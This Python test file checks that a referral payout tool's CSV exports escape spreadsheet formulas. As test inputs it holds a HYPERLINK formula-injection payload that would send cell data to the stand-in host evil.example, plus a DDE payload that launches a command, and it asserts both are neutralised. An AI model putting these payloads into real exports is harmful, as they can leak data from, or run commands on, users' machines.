"""CSV exports: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from referral.cli import main
from settlement.csvcells import SafeWriter, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [(ATTACK, "'" + ATTACK), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("-", "'-"), ("-CHF 1.23 (x)", "'-CHF 1.23 (x)"),
     # numbers and amounts stay numbers
     ("-500", "-500"), ("-₹1,430.50", "-₹1,430.50"), ("-$25", "-$25"), ("-CHF 1.23", "-CHF 1.23"),
     ("-1.234,50\u00a0€", "-1.234,50\u00a0€"), ("+5", "+5"),
     # the rest is left alone
     ("u1", "u1"), ("a=b", "a=b"), ("", ""), (-500, -500), (None, None)],
)
def test_safe_cell(value, written) -> None:
    assert safe_cell(value) == written


def test_safe_writer_round_trips_through_csv() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow([ATTACK, -5, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + ATTACK, "-5", "ok"]


@pytest.fixture
def cli(db_url):
    runner = CliRunner()

    def run(*args: str):
        result = runner.invoke(main, [*args, "--db", db_url])
        assert result.exit_code == 0, result.output
        return result

    run("db", "upgrade")
    return run


def test_every_csv_export_neutralises_formulas(cli, tmp_path) -> None:
    payees = tmp_path / "payees.csv"
    payees.write_text(f'user_id,method,email,name\n"{ATTACK.replace(chr(34), chr(34) * 2)}",'
                      'paypal,u1@example.com,@SUM(1)\n', encoding="utf-8")
    cli("ledger", "credit", ATTACK, "₹700", "--reference", "a", "--confirmed",
        "--date", "2026-11-02")
    cli("payees", "import", str(payees))
    cli("payout", "create", "--as-of", "2026-11-30", "--min", "₹100")
    out = tmp_path / "payout.csv"
    cli("payout", "export", "2026-11-30-INR", "--format", "csv", "-o", str(out))
    files = {
        "payout export": out.read_text(encoding="utf-8"),
        "ledger export": cli("ledger", "export", "--format", "csv").stdout,
        "liabilities": cli("report", "liabilities", "--as-of", "2026-11-30", "--by", "user",
                           "--csv").stdout,
    }
    for what, text in files.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + ATTACK in cells, what
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], what
    payout_cells = [c for row in csv.reader(io.StringIO(files["payout export"])) for c in row]
    assert "'@SUM(1)" in payout_cells
